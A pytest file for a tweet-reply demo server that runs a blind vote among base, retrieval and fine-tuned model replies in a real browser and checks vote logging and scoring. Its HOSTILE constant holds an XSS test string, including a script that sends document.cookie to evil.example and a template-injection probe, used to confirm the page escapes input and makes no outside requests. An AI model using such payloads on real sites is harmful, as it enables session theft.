"""The demo in a real browser: the models of a run, or its stored replies; blind until a vote is on the disk; text is text, and nothing goes out."""
import os
import subprocess
import sys

import pytest

from replytune.demo import ASKED, LENGTH_MAX, NONE, SEEN, Answers, Booth, Vote, VoteLog, checked_tweet, contest, letters_of, live_answerer, serve_demo, stored_answers, tweet_scores
from replytune.generate import GenerateParams, generate_stage
from replytune.run import Run, sample_copy, sample_rows
from replytune.schema import StageError, Unavailable
from replytune.train import TrainParams, train_stage

from browsing import free_port
from samples import whole_sample

PAGES = "09d 09z"
HOSTILE = "<img src=x onerror=alert(1)><script>fetch('http://evil.example/?'+document.cookie)</script> ![leak](http://evil.example/a.png) {{7*7}}"


@pytest.fixture(scope="module")
def toy(tmp_path_factory):
    "A run of the toy model with all three arms and its adapter"
    copy = sample_copy("05_generate")
    generate_stage(GenerateParams(run=str(copy.folder), tweets_max=2, max_new_tokens=8))
    train_stage(TrainParams(run=str(copy.folder), max_steps=2, evaluate_steps=1))
    return Run(copy.folder)


class Served:
    "`replytune demo` in a process of its own"

    def __init__(self, run, *more):
        self.port, self.run = free_port(), run
        self.process = subprocess.Popen([sys.executable, "-c", "from replytune.line import main; raise SystemExit(main())", "demo", str(run.folder), "--port", str(self.port), *more],
                                        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=os.environ | {"HF_HUB_OFFLINE": "1"})
        self.said = []
        for line in self.process.stdout:
            self.said.append(line)
            if "the demo is at" in line: break
        else: raise AssertionError("".join(self.said))

    def close(self):
        self.process.terminate()
        self.process.wait(10)

    def open(self, browser):
        page, self.asked, self.errors = browser.new_page(viewport={"width": 900, "height": 1300}), [], []
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("dialog", lambda dialog: self.errors.append(f"a dialog: {dialog.message}"))
        page.goto(f"http://127.0.0.1:{self.port}")
        page.get_by_role("button", name="Show the replies").wait_for()
        return page

    def outside(self) -> list[str]: return [url for url in self.asked if not url.startswith((f"http://127.0.0.1:{self.port}", f"ws://127.0.0.1:{self.port}", "data:", "blob:"))]


def shown(page, letter: str) -> str: return page.get_by_role("textbox", name=letter, exact=True).input_value()


def until(page, read, wanted=bool, seconds: float = 60):
    for _ in range(int(seconds * 10)):
        if wanted(value := read()): return value
        page.wait_for_timeout(100)
    raise AssertionError(f"still {value!r} after {seconds} s")


def ask(page, tweet: str) -> list[str]:
    page.get_by_label("Tweet", exact=True).fill(tweet)
    page.get_by_role("button", name="Show the replies").click()
    return [until(page, lambda letter=letter: shown(page, letter)) for letter in "ABC"]


def test_a_tweet_is_answered_blind_voted_on_and_revealed(toy, browser, tmp_path):
    served = Served(toy)
    try:
        page = served.open(browser)
        replies = ask(page, HOSTILE)
        assert not [arm for arm in ASKED if arm in page.inner_text("body")], "told before the vote"
        page.get_by_role("radio", name="B", exact=True).check()
        page.get_by_label("Your name, if you like").fill("anna")
        page.get_by_role("button", name="Vote, and tell me").click()
        told = until(page, lambda: page.get_by_label("What was what").input_value())
        order = list(letters_of(HOSTILE, ASKED).values())
        same = [arm for arm in order if replies[order.index(arm)] == replies[1]]
        assert told.startswith(f"Your vote: {' and '.join(same)}.") and "tuned, the model with its adapter" in told
        [vote] = VoteLog(toy / "demo/votes.jsonl").last()
        assert (vote.best, vote.order, vote.voter) == (same, order, "anna")
        assert "takes votes on 5 tweets, and there are 1" in page.get_by_label("All votes so far").input_value()
        assert ask(page, HOSTILE) == replies, "the same tweet asked again"
        page.screenshot(path=str(tmp_path / "demo.png"))
        assert not served.errors and not served.outside() and page.locator("img[src='x']").count() == 0
    finally: served.close()
    assert HOSTILE not in "".join(path.read_text(errors="replace") for path in (toy / "demo").rglob("*.jsonl"))


def test_what_cannot_be_asked_or_voted_on_is_said_on_the_page(toy, browser):
    served = Served(toy)
    try:
        page = served.open(browser)
        vote = page.get_by_role("button", name="Vote, and tell me")
        assert vote.is_disabled(), "there is nothing to vote on yet"
        page.get_by_role("button", name="Show the replies").click()
        page.get_by_text("there is no tweet yet").first.wait_for()
        assert not any(shown(page, letter) for letter in "ABC") and vote.is_disabled()
        replies = ask(page, "Which test would you never delete?")
        vote.click()
        page.get_by_text("choose one of A, B, C").first.wait_for()
        assert [shown(page, letter) for letter in "ABC"] == replies and page.get_by_text("Error", exact=True).count() == 0
    finally: served.close()


def test_stored_replies_need_no_model(browser, tmp_path):
    run = Run(whole_sample(tmp_path / "run"))
    known = stored_answers(run)
    tweet, answers = next(iter(known.items()))
    served = Served(run, "--stored")
    try:
        page = served.open(browser)
        page.get_by_role("button", name="Show the replies").click()
        letters = letters_of(tweet, ASKED)
        for letter, arm in letters.items(): assert until(page, lambda letter=letter: shown(page, letter)) == answers.replies[arm]
        assert "pipeline check" in page.inner_text("body")
    finally: served.close()


def test_the_live_arms_are_those_of_the_run_and_a_tweet_of_the_training_is_named(toy):
    answer = live_answerer(toy)
    trained_on = next(row["tweet"] for row in sample_rows("reviewed.jsonl") if row["split"] == "train")
    assert answer(trained_on).warning == SEEN
    fresh = answer("Nobody told me that the build would take a day.")
    assert fresh.warning == "" and set(fresh.replies) == set(ASKED) and all(fresh.replies.values() or fresh.reasons)
    assert fresh == answer("  Nobody told me that the build would take a day. ")


@pytest.mark.parametrize("text, said", [("", "no tweet"), (" \u200b\n", "no tweet"), ("x" * (LENGTH_MAX + 1), "1,001 characters; at most 1,000")])
def test_what_is_no_tweet_is_refused(text, said):
    with pytest.raises(StageError, match=said): checked_tweet(text)


def test_a_run_without_what_it_takes_is_named(tmp_path, toy):
    with pytest.raises(StageError, match="no manifest.json"): serve_demo(str(tmp_path / "nothing"), wait=False)
    early = sample_copy("05_generate")
    with pytest.raises(StageError, match="no replies of"): serve_demo(str(early.folder), wait=False)
    sample = Run(whole_sample(tmp_path / "run"))
    with pytest.raises(StageError, match="holds no adapter"): serve_demo(str(sample.folder), wait=False)
    busy = serve_demo(str(sample.folder), stored=True, port=free_port(), wait=False)
    try:
        with pytest.raises(StageError, match="name another with --port"): serve_demo(str(sample.folder), stored=True, port=busy.server_port, wait=False)
    finally: busy.close()


def test_a_vote_for_what_was_not_shown_is_refused_and_a_killed_line_is_no_vote(tmp_path):
    log = VoteLog(tmp_path / "votes.jsonl")
    with pytest.raises(StageError, match="none of base, rag, tuned"): log.add("t", ASKED, ["human"], "anna")
    booth = Booth(lambda text: None, log, ASKED)
    with pytest.raises(StageError, match="nothing to vote on"): booth.vote(None, "A", "anna")
    silent = Answers("t", {"base": None, "rag": "a", "tuned": "a"}, {"base": "too long"})
    letter = {arm: letter for letter, arm in letters_of("t", ASKED).items()}
    with pytest.raises(StageError, match="is no reply"): booth.vote(silent, letter["base"], "anna")
    assert booth.vote(silent, letter["rag"], "ben").startswith("Your vote: ") and set(log.last()[0].best) == {"rag", "tuned"}
    log.add("u", ASKED, ["base"], " ")
    assert [vote.voter for vote in log.last()] == ["ben", "somebody"]


def test_neither_is_a_tie_voters_are_averaged_within_a_tweet_and_few_tweets_have_no_interval():
    say = lambda tweet, best, voter="anna": Vote(tweet=tweet, order=ASKED, best=best.split(), voter=voter)
    votes = [say("1", "tuned"), say("1", "base", "ben"), say("2", "rag"), say("3", ""), say("4", "tuned")]
    assert tweet_scores(votes, "tuned", "base") == [0.5, 0.5, 0.5, 1.0]
    assert tweet_scores([say("6", "tuned base")], "tuned", "base") == [0.5], "they said the same"
    assert tweet_scores([say("6", "tuned base")], "tuned", "rag") == [1.0]
    assert isinstance(contest(votes, "tuned", "base"), Unavailable)
    found = contest([*votes, say("5", "tuned")], "tuned", "base")
    assert found["tweets"] == 5 and found["estimate"] == pytest.approx(0.7) and found["low"] < 0.5 < found["high"]
    assert NONE not in ASKED
